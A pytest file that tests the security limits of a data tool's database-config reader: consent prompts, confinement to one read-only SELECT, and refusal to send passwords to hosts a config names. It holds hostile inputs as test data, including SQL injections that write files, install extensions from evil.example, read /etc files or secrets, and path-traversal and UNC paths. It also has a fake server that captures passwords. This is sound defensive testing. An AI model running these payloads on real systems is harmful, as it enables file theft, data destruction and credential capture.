"""What a stranger's source config may do: name tables, columns and measures of files beside it, and nothing else."""

from __future__ import annotations

import hashlib
import json
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import duckdb
import polars
import pytest

from tests.support.databases import agree, by_month, duckdb_file
from xl_lifecycle.commands.cli import main
from xl_lifecycle.core.cells.errors import SourceError
from xl_lifecycle.sources import read_all, read_folder
from xl_lifecycle.sources.database import limits
from xl_lifecycle.sources.database.address import parse
from xl_lifecycle.sources.database.config import Config
from xl_lifecycle.sources.database.consent import TRUSTED
from xl_lifecycle.sources.database.postgresql_engine import PostgreSQL

ORDERS = polars.DataFrame(
    {
        "when": ["2026-01-05", "2026-01-09"],
        "customer": ["a", "b"],
        "amount": [1.0, 2.0],
    }
).with_columns(polars.col("when").str.to_date())
QUERY = "SELECT * FROM orders"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A shared folder with a database."""
    folder = tmp_path / "exports"
    folder.mkdir()
    duckdb_file(folder / "shop.db", {"orders": ORDERS})
    return folder


@pytest.fixture
def write(folder: Path) -> Callable[[str, str], Path]:
    """Put a config into the folder: its [database], and its query of orders."""

    def write(database: str, query: str = "", name: str = "shop.toml") -> Path:
        path = folder / name
        events = f"[events.orders]\nquery = {json.dumps(query)}\n" if query else ""
        path.write_text(f"[database]\n{database}\n{events}", "utf-8")
        return path

    return write


def refusal(sources: list[Path]) -> str:
    with pytest.raises(SourceError) as caught:
        read_all(sources)
    text = str(caught.value)
    assert len(text.splitlines()) == 1
    assert "\x1b" not in text
    return text


# Consent


def test_tables_beside_a_config_are_read_without_asking(folder, write) -> None:
    write('url = "shop.db"')
    assert by_month(read_all([folder]), "sales") == {"2026-01": 2}


@pytest.mark.parametrize(
    ("database", "query", "asks"),
    [
        ('url = "shop.db"', QUERY, "run this query there"),
        ('url = "../outside.db"', "", "read a file that is not beside it: "),
        ('url = "linked.db"', "", "read a file that is not beside it: "),
        ('url = "/etc/hostname"', "", "read a file that is not beside it: /etc/hostname"),
        ('url = "postgresql://eve@evil.example/db"', "", "query the database postgresql://evil.example/db as eve"),
    ],
)
def test_more_needs_consent_once_and_anew_if_it_changes(folder, write, user_folder, database, query, asks) -> None:
    duckdb_file(folder.parent / "outside.db", {"orders": ORDERS})
    (folder / "linked.db").symlink_to(folder.parent / "outside.db")
    config = write(database, query)
    for read in (lambda: read_all([folder]), lambda: read_folder(folder)):
        with pytest.raises(SourceError) as caught:
            read()
        assert asks in str(caught.value)
        assert f'xl-lifecycle trust "{config}"' in str(caught.value)
    agree(config)
    assert hashlib.sha256(config.read_bytes()).hexdigest() in (user_folder / "xl-lifecycle" / TRUSTED).read_text()
    if "db" in database and "postgresql" not in database:
        assert by_month(read_all([folder]), "sales") == {"2026-01": 2}
    config.write_text(config.read_text() + "# changed\n")
    assert asks in refusal([folder])


def test_trust_shows_in_words_what_a_config_asks_for(folder, write, capsys) -> None:
    config = write(
        'url = "postgresql://anna@db.example.com/shop"\npassword = "${XL_LIFECYCLE_SHOP}"', "SELECT\n 1 \x9b"
    )
    assert main(["trust", str(config), "--show"]) == 0
    out = capsys.readouterr().out
    assert "query the database postgresql://db.example.com/shop as anna" in out
    assert "send it the password in XL_LIFECYCLE_SHOP" in out
    assert "run this query there: SELECT 1 \ufffd" in out
    assert "agree" not in out
    assert main(["trust", str(config)]) == 0
    assert "You agree to this until the file changes." in capsys.readouterr().out
    assert main(["trust", str(folder / "none.toml")]) == 1
    (folder / "format.toml").write_text('title = "x"')
    assert main(["trust", str(folder / "format.toml")]) == 1
    assert main(["trust", str(write('url = "shop.db"'))]) == 0
    assert "asks for no more" in capsys.readouterr().out


def test_a_config_that_is_named_is_told_before_it_is_done(folder, write, small_book, capsys) -> None:
    config = write('url = "shop.db"', QUERY)
    assert main(["refresh", str(small_book), str(config)]) == 0
    assert f"shop.toml asks to run this query there: {QUERY}" in capsys.readouterr().err
    assert main(["refresh", str(small_book), str(agree(config))]) == 0
    assert "asks to" not in capsys.readouterr().err


def test_a_name_is_not_a_pattern_that_leads_elsewhere(folder, write) -> None:
    """A link beside the config matches the name of a real file that looks like a pattern."""
    for name, amount in (("a?.csv", 10), ("../secret.csv", 77)):
        (folder / name).write_text(f"when,customer,amount\n2026-01-05,ann,{amount}\n")
    (folder / "ab.csv").symlink_to(folder.parent / "secret.csv")
    (folder / "shop.db").unlink()
    config = write('url = "a?.csv"\nengine = "polars"\n[events.orders]\ntable = "a?"')
    assert by_month(read_all([config]), "sales_revenue") == {"2026-01": 10}
    config = write('url = "a?.csv"\n[events.orders]\ntable = "a?"')
    assert "disabled by configuration" in refusal([config])  # DuckDB takes it for a pattern, and may not open the other


@pytest.mark.parametrize(
    "url", ["//evil/share/x.csv", r"\\\\evil\\share\\x.csv", "C:/x.csv", "/etc/ssl/*.csv", "../*.csv", "~/x.csv"]
)
def test_a_path_elsewhere_is_not_even_looked_at(folder, write, monkeypatch, url: str) -> None:
    config = write(f'url = "{url}"')
    monkeypatch.setattr(Config, "files", lambda self: pytest.fail("it was looked at"))
    assert "read a file that is not beside it" in refusal([folder])
    assert main(["trust", "--show", str(config)]) == 0


@pytest.mark.parametrize(
    "text",
    ["a = " + "[" * 5000, "a = " + "1" * 5000, '[database]\nurl = "a\\u0000.csv"', '[database]\nurl = "a**b.csv"', f'[database]\nurl = "{"x" * 5000}"',
     '[database]\nurl = "shop.db"\n[events.orders]\nmeasures = 5', '[database]\nurl = "shop.db"\n[events.orders]\nmeasures = [[1]]', "[database]\nurl = 5", "[events]\norders = 5"],
)  # fmt: skip
def test_a_toml_that_makes_no_sense_is_refused_in_one_line(folder, small_original, capsys, text: str) -> None:
    (folder / "odd.toml").write_text(text)
    assert main(["refresh", str(small_original), str(folder), "--dry-run"]) == 1
    error = capsys.readouterr().err
    assert error.startswith("xl-lifecycle: odd.toml")
    assert error.count("\n") == 1


# DuckDB

ATTACKS = {
    "COPY (SELECT 1) TO '{victim}'": "a query must be one SELECT",
    "DETACH shop": "a query must be one SELECT",
    "ATTACH '{database}' AS other": "a query must be one SELECT",
    "DELETE FROM orders": "a query must be one SELECT",
    "INSTALL httpfs FROM 'http://evil.example'": "a query must be one SELECT",
    "SELECT 1; DELETE FROM orders": "a query must be one SELECT",
    "SET enable_external_access = true": "a query must be one SELECT",
    "PRAGMA enable_profiling": "a query must be one SELECT",
    "SELECT content AS customer, now() AS \"when\" FROM read_text('/etc/hostname')": "disabled by configuration",
    "SELECT file AS customer, now() AS \"when\" FROM glob('/etc/*')": "disabled by configuration",
    "SELECT * FROM read_csv('http://evil.example/x.csv')": "disabled by configuration",
    "SELECT * FROM '{victim}'": "disabled by configuration",
    'SELECT name AS customer, now() AS "when", 1 AS amount FROM duckdb_secrets()': "disabled by configuration",
    "SELECT * FROM frames": "does not exist",
    "": "needs either a table or a query",
}


@pytest.mark.parametrize("query", ATTACKS)
@pytest.mark.parametrize("files", [False, True])
def test_a_query_reads_its_database_and_nothing_else(folder, write, query: str, files: bool) -> None:
    frames = ORDERS  # which DuckDB's Python library would offer as a table
    assert len(frames) == 2
    victim, database = folder / "victim.csv", folder / "shop.db"
    victim.write_text("precious")
    before = database.read_bytes()
    if files:
        ORDERS.write_parquet(folder / "orders.parquet")
    url = "orders.parquet" if files else "shop.db"
    asked = query.format(victim=victim, database=database)
    config = write(f'url = "{url}"', asked or " ")
    assert ATTACKS[query] in refusal([agree(config) if query else config])
    assert victim.read_text() == "precious"
    assert database.read_bytes() == before


def test_a_view_in_a_database_reads_nothing_else_either(folder) -> None:
    with duckdb.connect(str(folder / "evil.duckdb")) as connection:
        connection.execute(
            "CREATE VIEW orders AS SELECT content AS customer, now() AS \"when\", 1 AS amount FROM read_text('/etc/hostname')"
        )
    (folder / "shop.db").unlink()
    assert "disabled by configuration" in refusal([folder])


def test_a_query_is_stopped(folder, write, monkeypatch) -> None:
    endless = "SELECT range AS n FROM range(1000000000000) WHERE md5(range::VARCHAR) = ''"
    config = agree(
        write('url = "shop.db"', f'SELECT now() AS "when", md5(n::VARCHAR) AS customer, 1 AS amount FROM ({endless}) x')
    )
    monkeypatch.setattr(limits, "MOST_SECONDS", 0.5)
    assert "a query took longer than" in refusal([config])
    monkeypatch.setattr(limits, "MOST_SECONDS", 60)
    monkeypatch.setattr(limits, "MOST_DISK", 20_000_000)
    large = "SELECT DATE '2026-01-01' AS \"when\", md5(range::VARCHAR) AS customer, 1 AS amount FROM range(100000000)"
    config = agree(write('url = "shop.db"', large))
    assert "a query needed more than 0.02 GB of disk" in refusal([config])


def test_an_answer_has_an_end(folder, write, monkeypatch) -> None:
    for module in ("duckdb_engine", "limits"):
        monkeypatch.setattr(f"xl_lifecycle.sources.database.{module}.MOST_ROWS", 100)
    many = (
        "SELECT DATE '2026-01-01' AS \"when\", 'a' AS customer, range::VARCHAR AS channel, 1 AS amount FROM range(200)"
    )
    assert "an answer has more than 100 rows" in refusal([agree(write('url = "shop.db"', many))])


def test_polars_is_given_no_query(folder, write) -> None:
    ORDERS.write_parquet(folder / "orders.parquet")
    config = write('url = "orders.parquet"\nengine = "polars"', "SELECT * FROM read_csv('/etc/passwd')")
    assert 'a query needs engine = "duckdb"' in refusal([config])


# PostgreSQL


@pytest.mark.parametrize(
    ("query", "reason"),
    [
        (
            "SELECT 1) AS asked; SET default_transaction_read_only = off; DELETE FROM orders; SELECT * FROM (SELECT 1",
            "one SELECT",
        ),
        ("SELECT 1; DELETE FROM orders", "syntax error"),
        (
            "SELECT set_config('transaction_read_only', 'off', false) AS customer, now() AS \"when\", 1 AS amount",
            "read-write mode",
        ),
        ("WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone", "top level"),
        ("SELECT \x1b[31m nosuch FROM orders", "syntax error"),
        ("SELECT (SELECT 'x' FROM pg_sleep(60)) AS customer, now() AS \"when\", 1 AS amount", "took longer"),
        ('SELECT customer, "when", take(amount) AS amount FROM orders', "read-only transaction"),
    ],
)
def test_a_query_of_postgresql_is_one_select_that_only_reads(server, secret, write, monkeypatch, query, reason) -> None:
    name = server.database({"orders": ORDERS})
    server.execute(
        name,
        "CREATE FUNCTION take(x float8) RETURNS float8 LANGUAGE plpgsql AS 'BEGIN DELETE FROM orders; RETURN x; END'",
        f"GRANT ALL ON orders TO {server_reader()}",
    )
    monkeypatch.setattr("xl_lifecycle.sources.database.postgresql_engine.MOST_SECONDS", 2)
    config = agree(write(f'url = "{server.url(name)}"', query))
    text = refusal([config])
    assert reason in text
    assert by_month(read_all([server.url(name)]), "sales") == {"2026-01": 2}


def server_reader() -> str:
    from tests.support.postgresql import READER

    return READER


def test_names_are_looked_up_in_postgresql_first_and_in_temporary_tables_last(server, secret) -> None:
    engine = PostgreSQL(parse(server.url(server.database({"orders": ORDERS}))))
    [path] = [row["path"] for row in engine.rows(engine.query("SELECT current_setting('search_path') AS path"))]
    assert path == '"pg_catalog", "public", "pg_temp"'
    engine.close()


# Passwords


class Greedy(threading.Thread):
    """A server that asks for the password in clear, and keeps what it is sent."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.kept = b""

    def run(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.kept += (first := connection.recv(9999))
                    if len(first) == 8:  # whether it speaks TLS
                        connection.sendall(b"N")
                        self.kept += connection.recv(9999)
                    connection.sendall(b"R\0\0\0\x08\0\0\0\x03")
                    self.kept += connection.recv(9999)
                except OSError:
                    continue


@pytest.fixture
def greedy() -> Iterator[Greedy]:
    server = Greedy()
    server.start()
    yield server
    server.socket.close()


@pytest.mark.parametrize("named", [False, True])
@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("eve@HOST/db", "query the database"),
        ("eve:${XL_LIFECYCLE_PASSWORD}@HOST/db", "query the database"),
        ("eve:${AWS_KEY}@HOST/db", "variable of ours"),
        ("eve@HOST/${XL_LIFECYCLE_NONE}", "only the password"),
        ("eve@HOST/db?password=%24%7BXL_LIFECYCLE_SHOP%7D", "query the database"),
        ("%24%7BXL_LIFECYCLE_SHOP%7D@HOST/db?password=x", "only the password"),
        ("${XL_LIFECYCLE_SHOP}@HOST/db", "only the password"),
        ("eve@HOST/db?sslkey=${XL_LIFECYCLE_SHOP}", "only the password"),
    ],
)
def test_no_password_goes_to_a_host_that_a_file_names(folder, write, greedy, monkeypatch, url, reason, named) -> None:
    for name in ("XL_LIFECYCLE_PASSWORD", "XL_LIFECYCLE_SHOP", "AWS_KEY"):
        monkeypatch.setenv(name, "hunter22")
    config = write(f'url = "postgresql://{url.replace("HOST", f"127.0.0.1:{greedy.port}")}"')
    assert reason in refusal([config if named else folder])
    assert greedy.kept == b""


@pytest.mark.parametrize("name", ["PGPASSWORD", "PGSERVICE"])
def test_a_password_of_postgresql_s_own_library_needs_consent_too(write, greedy, monkeypatch, name: str) -> None:
    monkeypatch.delenv("XL_LIFECYCLE_PASSWORD", raising=False)
    monkeypatch.setenv(name, "hunter22")
    assert "query the database" in refusal([write(f'url = "postgresql://eve@127.0.0.1:{greedy.port}/db"')])
    assert greedy.kept == b""


def test_a_password_belongs_to_a_user_of_a_host(folder, write, greedy, monkeypatch) -> None:
    monkeypatch.setenv("XL_LIFECYCLE_PASSWORD", "hunter22")
    monkeypatch.setenv("XL_LIFECYCLE_PASSWORD_FOR", "anna@db.example.com/shop")
    config = agree(write(f'url = "postgresql://eve@127.0.0.1:{greedy.port}/db"'))
    assert "XL_LIFECYCLE_PASSWORD_FOR says whose it is" in refusal([config])
    assert greedy.kept == b""


def test_another_machine_never_gets_a_password_in_clear(greedy, monkeypatch) -> None:
    monkeypatch.setenv("XL_LIFECYCLE_PASSWORD", "hunter22")
    monkeypatch.setattr("xl_lifecycle.sources.database.address.HERE", ())  # as if 127.0.0.1 were another machine
    text = refusal([f"postgresql://anna@127.0.0.1:{greedy.port}/shop"])  # type: ignore[list-item]
    assert "in a way that others can read" in text
    assert greedy.kept
    assert b"hunter22" not in greedy.kept


MISTYPED = [
    "postgresql:/anna:hunter22@host/db",
    "postgresql//anna:hunter22@host/db",
    "postgresql:anna:hunter22@host/db",
    "postgresql:\\\\anna:hunter22@host/db",
    "postgres ql://anna:hunter22@host/db",
    "postgresql;//anna:hunter22@host/db",
    "postgresql://anna:hunter22@host",
    "postgresql://anna:hunter22host/db",
    "postgresql://anna:hun/ter22@host/db",
    "postgresql://anna:hunter22@ho st/db",
    "postgresql://[::1/hunter22",
    "postgresql://anna@host:hunter22/db",
    "http://anna:hunter22@host/db",
    "anna:hunter22@host/db",
    "anna/hunter22@host",
    "host=db user=anna password=hunter22",
    "jdbc:postgresql://host/db?user=anna&password=hunter22",
    "postgresql%3A//anna%3Ahunter22%40host/db",
    "\uff50ostgresql\uff1a//anna:hunter22\uff20host/db",
    "--password=hunter22",
    "PGPASSWORD=hunter22",
    "'postgresql://anna:hunter22@host/db'",
    "pg:anna/hunter22",
    "user=anna pass=hunter22 host=db",
    "Postgresql://anna:hunter22@host:5432x/db",
]


@pytest.mark.parametrize("source", MISTYPED)
@pytest.mark.parametrize("where", ["source", "book", "prefer", "map", "json"])
def test_no_spelling_of_an_address_is_repeated(small_book, capfd, source: str, where: str) -> None:
    words = {
        "source": ["refresh", str(small_book), source],
        "book": ["refresh", source, "x.csv"],
        "prefer": ["refresh", str(small_book), "--prefer", source],
        "map": ["map", source],
        "json": ["refresh", "--json", str(small_book), source],
    }[where]
    try:
        status = main(words)
    except SystemExit as stopped:
        status = int(stopped.code or 0)
    seen = capfd.readouterr()
    if where == "prefer" and status == 0:
        pytest.fail("nothing was refused")
    assert status in (1, 2)
    assert "ter22" not in seen.out + seen.err
    assert seen.out + seen.err
